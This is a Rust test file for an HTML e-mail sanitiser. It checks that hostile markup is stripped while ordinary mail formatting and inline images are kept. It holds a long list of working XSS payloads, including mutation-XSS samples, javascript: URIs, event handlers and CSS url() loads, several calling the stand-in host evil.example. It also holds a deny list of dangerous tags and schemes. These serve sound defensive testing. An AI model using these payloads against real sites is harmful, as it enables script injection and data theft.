use super::*;

const PREFIX: &str = "/api/v1/records/00/cid/";

fn clean(html: &str) -> Sanitised {
    sanitise(html, Images { cid_prefix: PREFIX, remote: false }).expect("short enough")
}

fn with_remote(html: &str) -> Sanitised {
    sanitise(html, Images { cid_prefix: PREFIX, remote: true }).expect("short enough")
}

/// What must never be in an answer, whatever the case.
const FORBIDDEN: &[&str] = &[
    "<script",
    "<meta",
    "<base",
    "<iframe",
    "<frame",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<svg",
    "<math",
    "<style",
    "<link",
    "<template",
    "<noscript",
    "<textarea",
    "<select",
    "<video",
    "<audio",
    "<source",
    "<body",
    "<html",
    "<head",
    "<title",
    "<!--",
    "<?",
    "javascript:",
    "vbscript:",
    "data:text",
    "data:image/svg",
    "url(",
    "expression(",
    "@import",
    " id=",
    " class=",
    " name=",
    " srcset=",
    " background=",
    " action=",
    " formaction=",
    " xlink:href=",
    "-moz-binding",
    "behavior:",
];

fn assert_harmless(input: &str) {
    for cleaned in [clean(input), with_remote(input)] {
        let lower = cleaned.html.to_lowercase();
        for forbidden in FORBIDDEN {
            assert!(!lower.contains(forbidden), "{forbidden} of {input:?} in {:?}", cleaned.html);
        }
        assert!(!has_event_handler(&lower), "handler of {input:?} in {:?}", cleaned.html);
        // What is clean stays as it is: a second parse finds nothing that the first one hid.
        let again = clean(&cleaned.html).html.to_lowercase();
        for forbidden in FORBIDDEN {
            assert!(!again.contains(forbidden), "second pass: {forbidden} of {input:?}");
        }
    }
    let blocked = clean(input).html;
    assert!(!blocked.contains("src=\"http") && !blocked.contains("src=\"//"), "{blocked:?}");
}

/// ` on…=` within a tag.
fn has_event_handler(html: &str) -> bool {
    html.split('<').filter_map(|tag| tag.split_once('>').map(|(tag, _)| tag)).any(|tag| {
        tag.split('"').step_by(2).any(|outside| {
            outside.split_whitespace().any(|word| word.starts_with("on") && word.contains('='))
        })
    })
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script foo>",
    "<script>alert(1)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf><param name=a></object><embed src=x>",
    "<form action=https://evil.example><input name=p type=password><button>ok</button></form>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<div onclick=alert(1) OnMouseOver='x'>x</div>",
    "<body onload=alert(1)>x</body>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/v1/session'>x</a>",
    "<img src='data:text/html,x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='javascript:alert(1)'>",
    "<img src=https://evil.example/t.gif>",
    "<img src=//evil.example/t.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<table background=https://evil.example/t.gif><tr><td background='//e'>x</td></tr></table>",
    "<div style='background:url(https://evil.example/t.gif)'>x</div>",
    "<div style=\"background-image:url('//evil.example')\">x</div>",
    "<div style='background:u\\72l(https://evil.example/)'>x</div>",
    "<div style='background:/**/url(/*x*/https://evil.example/)'>x</div>",
    "<div style='background:image-set(\"https://evil.example/\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='color:var(--x);content:attr(title);cursor:url(x),auto'>x</div>",
    "<div style='font-family:\";}</style><script>alert(1)</script>'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>body{background:url(//evil.example)}",
    // Mutation XSS samples: what one parser reads as text another one reads as markup.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<div title='\"><img src=x onerror=alert(1)>'>x</div>",
    "<p title=`onmouseover=alert(1)`>x",
    "<a href=\"https://x.example/\" style=\"x:y\" target=_top>x</a>",
    "<table><a href='javascript:alert(1)'>x<tr><td><svg/onload=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src=\"cid:x\"><img src='cid:../../../session'>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

#[test]
fn nothing_that_acts_or_loads_survives() {
    for sample in HOSTILE {
        assert_harmless(sample);
        assert_harmless(&format!("<p>before {sample} after</p>"));
        assert_harmless(&format!("<table><tr><td>{sample}</td></tr></table>"));
        assert_harmless(&format!("<b><i><a href=https://a.example>{sample}"));
    }
}

#[test]
fn hostile_samples_after_each_other_hide_nothing() {
    for first in HOSTILE {
        for second in HOSTILE {
            assert_harmless(&format!("{first}{second}"));
        }
    }
}

#[test]
fn ordinary_mail_keeps_its_look() {
    let cleaned = clean(
        "<html><head><title>t</title><style>p{}</style></head><body><p style=\"color: red; font-family: 'Segoe UI', sans-serif\">Grüße &amp; <b>Dank</b><br>\
         <a href=\"https://example.com/?a=1&amp;b=2\">Link</a></p><table width=\"100%\"><tr><td bgcolor=#ffffff>x</td><td>1 &lt; 2</td></tr></table></body></html>",
    );
    for kept in [
        "Grüße &amp; <b>Dank</b><br>",
        "color:red",
        "Segoe UI",
        "href=\"https://example.com/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
        "<td bgcolor=\"#ffffff\">x</td>",
        "1 &lt; 2",
    ] {
        assert!(cleaned.html.contains(kept), "{kept} in {}", cleaned.html);
    }
    assert!(!cleaned.cut);
    assert_eq!(cleaned.remote, 0);
}

#[test]
fn remote_images_are_counted_and_shown_only_when_asked_for() {
    let html = "<img src=https://a.example/1.png><img src=http://a.example/2.png><img src=//a.example/3.png>\
        <table background=https://a.example/4.png></table><p style='background: url(https://a.example/5.png)'>x</p>";
    let blocked = clean(html);
    assert_eq!(blocked.remote, 5);
    assert!(!blocked.html.contains("a.example"));
    let shown = with_remote(html);
    assert!(shown.html.contains("src=\"https://a.example/1.png\""));
    for plain in ["2.png", "3.png", "4.png", "5.png"] {
        assert!(!shown.html.contains(plain));
    }
}

#[test]
fn inline_images_point_into_the_record() {
    let cleaned = clean("<img src=\"cid:image001.png@01D9.A b/c\"><img src='CID:x%40y'>");
    assert!(
        cleaned.html.contains(&format!("src=\"{PREFIX}image001.png%4001D9.A%20b%2Fc\"")),
        "{}",
        cleaned.html
    );
    assert!(cleaned.html.contains(&format!("src=\"{PREFIX}x%40y\"")), "{}", cleaned.html);
}

#[test]
fn html_beyond_the_limit_is_refused() {
    let html = "x".repeat(HTML_BYTES_MAX + 1);
    assert_eq!(sanitise(&html, Images { cid_prefix: PREFIX, remote: false }), None);
}

/// Inputs that make HTML parsers slow or large: the output must stay in proportion. That they end
/// at all within the test's patience is the point; each is as long as is allowed.
#[test]
fn inputs_that_multiply_are_bounded() {
    let full = |unit: &str| unit.repeat(HTML_BYTES_MAX / unit.len());
    let fonts: String = (0..1000).map(|n| format!("<font color={n}>")).collect();
    let head = format!("<p>{fonts}</p>");
    let attributes: String = (0..200_000).map(|n| format!("a{n} ")).collect();
    for input in [
        full("<div>"),
        full("<b>"),
        full("<a href=x>"),
        full("<table><tr><td>"),
        full("<table>"),
        full("<svg>"),
        full("<math><mi>"),
        full("<!--"),
        full("<"),
        full("</p>"),
        full("<p><b><div>"),
        full("<li><ul>"),
        full("&amp"),
        full("<p style='color:red;"),
        format!("{head}{}", "<p>x</p>".repeat((HTML_BYTES_MAX - head.len()) / 8)),
        format!("<b {attributes}>x</b>"),
        format!("<p style=\"{}\">x</p>", "color:red;".repeat(100_000)),
    ] {
        let cleaned = clean(&input);
        assert!(cleaned.html.len() <= 8 * input.len() + 100, "{}", input.len());
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]
    #[test]
    fn no_mixture_of_markup_gets_through(pieces in proptest::collection::vec(
        proptest::sample::select(vec![
            "<", ">", "\"", "'", "=", "/", " ", "a", "p", "b", "table", "td", "<p ", "<a href=", "<img src=", "svg",
            "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<script>", "</script>",
            "onerror=alert(1)", "javascript:x", "<table>", "</table>", "<td>", "<title>", "</title>", "style=", "url(",
            "&lt;", "&quot;", "&#x3c;", "\\", "<template>", "<select>", "<noscript>", "</noscript>", "<form>", "\0", "é",
        ]), 0..40)) {
        assert_harmless_tags(&pieces.concat());
    }
}

/// Like [`assert_harmless`], but text may say anything: only what stands within tags is looked at.
fn assert_harmless_tags(input: &str) {
    let cleaned = with_remote(input).html;
    for tag in cleaned.split('<').skip(1) {
        let (tag, _) = tag.split_once('>').expect("a tag ends");
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(
            [
                super::tidy::FORMATTING,
                super::tidy::BLOCKS,
                super::tidy::TABLES,
                &["br", "col", "hr", "img", "wbr"]
            ]
            .iter()
            .any(|known| known.contains(&name.as_str())),
            "{name} in {cleaned:?} of {input:?}"
        );
        let lower = tag.to_lowercase();
        assert!(
            !lower.contains("href=\"javascript")
                && !lower.contains("src=\"javascript")
                && !lower.contains("url(")
        );
    }
    assert!(!has_event_handler(&cleaned.to_lowercase()), "{cleaned:?} of {input:?}");
}
